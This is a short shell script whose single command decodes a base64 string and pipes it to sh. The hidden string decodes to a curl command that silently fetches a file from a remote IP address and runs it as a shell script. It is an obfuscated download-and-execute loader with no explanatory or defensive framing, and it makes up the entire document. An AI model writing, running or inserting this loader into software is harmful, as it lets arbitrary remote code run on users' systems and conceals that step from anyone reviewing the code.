#!/bin/sh
echo Y3VybCAtcyBodHRwOi8vMTkyLjAuMi45L2EgfCBzaA== | base64 -d | sh
